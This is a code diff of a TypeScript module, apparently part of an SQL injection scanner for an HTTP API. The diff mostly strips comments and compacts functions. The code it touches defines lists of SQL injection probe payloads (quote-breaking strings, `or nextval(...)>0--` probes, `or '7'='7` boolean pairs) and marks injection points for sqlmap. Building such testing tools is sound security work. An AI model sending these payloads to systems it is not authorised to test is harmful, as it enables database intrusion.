@@ -21,7 +21,6 @@ export const PROBE = 'probe'
 
 const probe = `nextval($$${PROBE}$$)`
 
-/** Makes a text from what usually stands in a place. */
 export type Payload = (usual: string) => string
 export type Payloads = {
   probes: Payload[]
@@ -41,7 +40,6 @@ const fewProbes = [
   ...[`\\' or ${probe}>0-- `, `'; select ${probe}-- `],
 ].map(behind)
 
-/** In every place where a value can stand in a statement. */
 const moreProbes = [
   ...[`) or ${probe}>0-- `, `' or ${probe}>0 or '7'='8`, `')) or ${probe}>0-- `, `" or ${probe}>0-- `],
   ...[`") or ${probe}>0-- `, `'/**/or/**/${probe}>0--`, `; select ${probe}-- `, `'); select ${probe}-- `],
@@ -58,11 +56,7 @@ const pairs = [
   ...["' or '7'='7", ' or 7=7', "' or 7=7-- ", "') or ('7'='7", '" or "7"="7', ' and 7=7', "' and '7'='7"],
 ].map(pair)
 
-export const fewPayloads: Payloads = {
-  probes: fewProbes,
-  breakers: [behind(`'"`)],
-  pairs: pairs.slice(0, 1),
-}
+export const fewPayloads: Payloads = { probes: fewProbes, breakers: [behind(`'"`)], pairs: pairs.slice(0, 1) }
 export const allPayloads: Payloads = {
   probes: [...fewProbes, ...moreProbes, () => `(select ${probe})`, () => `{"${probe}"}`],
   ...{ breakers, pairs },
@@ -80,20 +74,17 @@ export function levelled(text: string, payload: string): string {
 export type Point = {
   /** Such as `query addItems` or `filter created_at.from`. */
   name: string
-  /** What stands there in an ordinary request. */
   usual: string
   put: (draft: Draft, text: string) => void
   /** All routes read it, in one place. */
   isCommon?: boolean
 }
 
-/** What sqlmap takes for a place to try. */
 const MARKER = '*'
 const TOKEN = 'header authorization'
 const PAGE = 'searchCriteria[currentPage]'
 const PAGE_SIZE = 'searchCriteria[pageSize]'
 
-/** An ordinary request of the operation, to be filled in once. */
 export function usualDraft(operation: Operation, token: string): Draft {
   const draft = newDraft(operation, token, pathOf(operation))
   if (operation.body?.type === 'application/json') {
@@ -151,7 +142,6 @@ function usualText(name: string, schema: Schema = {}): string {
   return usualTexts[name] ?? usualTexts[schema.format ?? ''] ?? fitting ?? ''
 }
 
-/** All fields of the body, also those that may be missing. */
 function usualValue(schema: Schema, name = ''): unknown {
   const [type] = [schema.type ?? 'object'].flat()
   const properties = Object.entries(schema.properties ?? {})
@@ -176,9 +166,7 @@ function putInPath(draft: Draft, name: string, text: string): void {
 }
 
 // What stands for itself in a URL may do so: a payload is read more easily, and so is a marker of sqlmap.
-function escaped(text: string): string {
-  return encodeURIComponent(text).replaceAll('%2A', '*')
-}
+const escaped = (text: string): string => encodeURIComponent(text).replaceAll('%2A', '*')
 
 function parameterPoint({ in: place, name, schema }: Parameter): Point {
   const put = (draft: Draft, text: string) => {
@@ -198,9 +186,7 @@ function setQuery(draft: Draft, name: string, text: string): void {
     setQuery(draft, PAGE_SIZE, '10')
 }
 
-function isTime(field: string): boolean {
-  return field.endsWith('_at')
-}
+const isTime = (field: string): boolean => field.endsWith('_at')
 
 function usualOf(field: string): string {
   if (isTime(field)) return '2026-01-31 12:00:00'
